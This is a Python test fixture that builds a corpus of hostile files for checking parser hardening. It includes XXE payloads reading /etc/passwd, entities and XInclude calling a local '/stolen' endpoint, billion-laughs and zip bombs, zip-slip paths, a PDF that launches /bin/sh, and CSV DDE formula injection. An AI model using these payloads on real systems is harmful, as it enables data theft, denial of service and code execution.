"""Hostile files: XML, zip, PDF, JSON, CSV, text. Each comes with the parsers that might meet it."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.bulk_maker import Case, case_xml, daily, zipped
from tests.order_pdfs import assemble, inflating_page, laughing_forms, pdf, stream
from tests.sources.test_zipfiles import encrypted, into_the_directory, longer_than_it_says, overlapping

XML = ("xml", "st96", "documents", "case file", "bulk", "ttab", "assignments", "check --file")
JSON = ("info", "multi", "check --file", "listing")
ZIP = ("zip", "bulk", "check --file", "portfolio", "order")
TABLE = ("portfolio", "order", "sanctions")
WEB = ("order page", "info", "multi", "st96", "check --file", "portfolio")


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file. `url` in a file is where it wants to call."""

    name: str
    parsers: tuple[str, ...]
    path: Path


def write(folder: Path, port: int) -> list[Hostile]:
    """Write the corpus; files that call out call 127.0.0.1:`port`."""
    found = []
    for name, parsers, body in _all(f"http://127.0.0.1:{port}/stolen"):
        path = folder / name
        path.write_bytes(body)
        found.append(Hostile(name, parsers, path))
    return found


def _all(url: str) -> Iterator[tuple[str, tuple[str, ...], bytes]]:
    yield from ((f"{name}.xml", XML, body) for name, body in _xml(url))
    yield from ((f"{name}.json", JSON, body) for name, body in _json())
    yield from ((f"{name}.zip", ZIP, body) for name, body in _zips())
    yield from ((f"{name}.xlsx", ("portfolio", "order"), body) for name, body in _books())
    yield from ((f"{name}.pdf", ("order",), body) for name, body in _pdfs(url))
    yield from ((f"{name}.csv", TABLE, body) for name, body in _tables(url))
    yield from ((f"{name}.html", WEB, body) for name, body in _pages(url))


def _xml(url: str) -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "billion-laughs", f'<!DOCTYPE t [<!ENTITY l0 "ha">{laughs}]><t>&l9;</t>'.encode()
    yield "quadratic", f'<!DOCTYPE t [<!ENTITY a "{"a" * 50_000}">]><t>{"&a;" * 20_000}</t>'.encode()
    yield "external-entity", b'<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><t>&x;</t>'
    yield "entity-from-the-net", f'<!DOCTYPE t [<!ENTITY x SYSTEM "{url}">]><t>&x;</t>'.encode()
    yield "dtd-from-the-net", f'<!DOCTYPE t SYSTEM "{url}"><t/>'.encode()
    yield "parameter-entity", f'<!DOCTYPE t [<!ENTITY % p SYSTEM "{url}"> %p;]><t/>'.encode()
    inclusion = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    yield "xinclude", f'<t {inclusion}><xi:include href="{url}"/><xi:include href="file:///etc/passwd"/></t>'.encode()
    yield "stylesheet", f'<?xml-stylesheet type="text/xsl" href="{url}"?><t/>'.encode()
    schema = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    yield "schema", f'<t {schema} xsi:noNamespaceSchemaLocation="{url}"/>'.encode()
    yield "deep", b"<t>" * 200_000 + b"</t>" * 200_000
    yield "long-text", b"<t>" + b"a" * 20_000_000 + b"</t>"
    yield "long-attribute", b'<t a="' + b"a" * 15_000_000 + b'"/>'
    yield "many-attributes", ("<t " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>").encode()
    yield "many-namespaces", ("<t " + " ".join(f'xmlns:a{n}="u:{n}"' for n in range(20_000)) + "/>").encode()
    yield "many-elements", b"<t>" + b"<a/>" * 1_000_000 + b"</t>"
    yield "cut", daily(("TX", [Case()]))[:-400]
    yield "utf-7", b'<?xml version="1.0" encoding="utf-7"?>+ADw-t/+AD4-'
    yield "utf-16-mixed", '<?xml version="1.0" encoding="utf-16"?><t>'.encode("utf-16") + b"</t>"
    yield "nul", b"<t>\x00\x00</t>"
    long_record = case_xml(Case()).replace("LUMENVALE", "L" * 12_000_000)
    yield "long-record", daily(("TX", [long_record]))
    yield "endless-record", daily(("TX", [Case()])).partition(b"</case-file>")[0] + b"<a>x</a>" * 3_000_000
    yield "comment", b"<t><!--" + b"-" * 10_000_000 + b"--></t>"


def _json() -> Iterator[tuple[str, bytes]]:
    yield "deep-lists", b"[" * 500_000
    yield "deep-objects", b'{"trademarks":' * 200_000
    yield "deep-and-closed", b'{"trademarks":[' + b"[" * 900 + b"]" * 900 + b"]}"
    yield "long-number", b'{"trademarks": [' + b"9" * 2_000_000 + b"]}"
    yield "exponent", b'{"trademarks": [{"status": {"serialNumber": 1e999999999}}]}'
    yield "nan", b'{"trademarks": [NaN, Infinity]}'
    yield "surrogates", b'{"trademarks": [{"status": {"markElement": "\\ud800", "serialNumber": 97123456}}]}'
    yield "same-key", b'{"trademarks": [], ' * 1 + b", ".join(b'"trademarks": []' for _ in range(100_000)) + b"}"
    yield "many-keys", json.dumps({f"k{n}": n for n in range(300_000)}).encode()
    yield "many-records", b'{"transactionList": [' + b", ".join([b'{"trademarks": [{}]}'] * 50_000) + b"]}"
    yield "long-text", b'{"trademarks": [{"status": {"markElement": "' + b"a" * 8_000_000 + b'"}}]}'
    yield "utf-16", '{"trademarks": []}'.encode("utf-16")
    yield "nul", b'{"trademarks": []}\x00'


def _zips() -> Iterator[tuple[str, bytes]]:
    yield "bomb", _bomb(1_000_000_000)
    yield "overlapping", overlapping()
    yield "into-the-directory", into_the_directory()
    yield "longer-than-it-says", longer_than_it_says()
    yield "encrypted", encrypted()
    yield "zip-in-zip", _packed({"inner.zip": _bomb(10_000_000)})
    yield "leaves-the-folder", _packed({"../../etc/cron.d/x.xml": b"<t/>"})
    yield "absolute", _packed({"/etc/x.xml": b"<t/>"})
    yield "many-entries", _packed({f"{n}.xml": b"" for n in range(20_000)})
    yield "no-directory", zipped(daily(("TX", [Case()])))[:-60]
    yield "says-many", _says_many()
    yield "xml-bomb", _packed({"apc261124.xml": b"<t>" + b"<a/>" * 5_000_000})


def _bomb(size: int) -> bytes:
    """Return a zip whose one member inflates to `size` zeros."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("apc261124.xml", "w") as member:
        block = b"\0" * 10_000_000
        for _ in range(size // len(block)):
            member.write(block)
    return file.getvalue()


def _packed(entries: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return file.getvalue()


def _says_many() -> bytes:
    body = bytearray(_packed({"a.xml": b"<t/>"}))
    end = body.rfind(b"PK\x05\x06")
    body[end + 8 : end + 12] = struct.pack("<2H", 65_535, 65_535)
    return bytes(body)


def _books() -> Iterator[tuple[str, bytes]]:
    """Workbooks: a sheet that inflates, shared strings that do, entities, a sheet of too many rows."""
    kinds = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    for name, sheet in (
        ("inflating-sheet", b"<row><c><v>1</v></c></row>" * 8_000_000),
        ("entities", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>&a;'),
    ):
        head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        yield (
            name,
            _packed(
                {
                    "[Content_Types].xml": (kinds + "</Types>").encode(),
                    "xl/workbook.xml": b"<workbook/>",
                    "xl/worksheets/sheet1.xml": head + sheet + b"</sheetData></worksheet>",
                }
            ),
        )
    yield "no-workbook", _packed({"hello.txt": b"hello"})
    yield "formulas", _formulas()


def _formulas() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["serial_number", "brand"])
    for text in ('=HYPERLINK("http://127.0.0.1/x","97123456")', "=cmd|' /C calc'!A0", "@SUM(1)"):
        book.active.append([text, text])
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def _pdfs(url: str) -> Iterator[tuple[str, bytes]]:
    yield "laughing-forms", laughing_forms()
    yield "inflating-page", inflating_page(600)
    action = f"/OpenAction << /S /URI /URI ({url}) >>".encode()
    yield "opens-a-page", pdf([]).replace(b"/Type /Catalog", b"/Type /Catalog " + action)
    script = f"/OpenAction << /S /JavaScript /JS (app.launchURL('{url}')) >>".encode()
    yield "script", pdf([]).replace(b"/Type /Catalog", b"/Type /Catalog " + script)
    outside = b"/F << /FS /URL /F (" + url.encode() + b") >>"
    yield "stream-from-the-net", _one_page(stream(b"", extra=outside))
    yield "launch", pdf([]).replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch /F (/bin/sh) >>")
    yield (
        "pages-in-a-circle",
        assemble({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 100000 >>"}),
    )
    yield (
        "claims-many-pages",
        assemble({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 2000000000 >>"}),
    )
    yield "deep-arrays", assemble({1: b"<< /Type /Catalog /Pages " + b"[" * 100_000 + b"]" * 100_000 + b" >>"})
    yield "filters-of-filters", _one_page(_many_filters())
    yield "cut", laughing_forms()[:700]
    yield "only-a-head", b"%PDF-1.7\n" + b"\0" * 5_000_000


def _one_page(content: bytes) -> bytes:
    return assemble(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
            5: content,
        }
    )


def _many_filters() -> bytes:
    body = b"BT ET " * 100
    for _ in range(50):
        body = zlib.compress(body)
    names = b"/FlateDecode " * 50
    return b"<< /Length %d /Filter [%s] >>\nstream\n" % (len(body), names) + body + b"\nendstream"


def _tables(url: str) -> Iterator[tuple[str, bytes]]:
    yield "long-cell", b"serial_number,brand\n97123456," + b"a" * 20_000_000 + b"\n"
    yield "many-columns", b",".join(b"c%d" % n for n in range(300_000)) + b"\n" + b"1," * 300_000 + b"\n"
    yield "many-rows", b"serial_number\n" + b"97123456\n" * 300_000
    yield "open-quote", b'serial_number,brand\n97123456,"' + b"a,b\n" * 2_000_000
    yield "nul", b"serial_number\x00\x00\n97123456\x00\n"
    yield "formulas", f"serial_number,brand\n=HYPERLINK(\"{url}\"),'=cmd|/C calc'!A0\n".encode()
    yield "mixed-encodings", b"\xff\xfes\x00" + "品牌".encode("gb18030") + b"\x80\x81\n"
    yield "digits", b"9" * 10_000_000
    yield "almost-numbers", b"97,12 3.45-6/" * 800_000
    yield "blanks", b" \t" * 5_000_000 + b"x"
    yield "dates", b"January 1, 20" * 500_000
    yield "dashes", b"97-" * 3_000_000
    yield "new-lines", b"\n" * 5_000_000
    yield "control-characters", b"serial_number,brand\n97123456,\x1b]0;owned\x07\x1b[2J\n"
    yield "claims", b"a total of 12,345 applications listed in Exhibit A " * 100_000


def _pages(url: str) -> Iterator[tuple[str, bytes]]:
    yield "deep", b"<html><body>" + b"<div>" * 100_000
    yield "many-links", b"<html><body>" + b'<a href="/x.pdf">order</a>' * 200_000
    yield "calls-out", f'<html><body><img src="{url}"><link rel="import" href="{url}"><script src="{url}">'.encode()
    yield "bases", b'<html><body><base href="file:///etc/"><a href="passwd.pdf">x</a>'
    yield "long-href", b'<html><body><a href="' + b"a" * 5_000_000 + b'.pdf">x</a>'
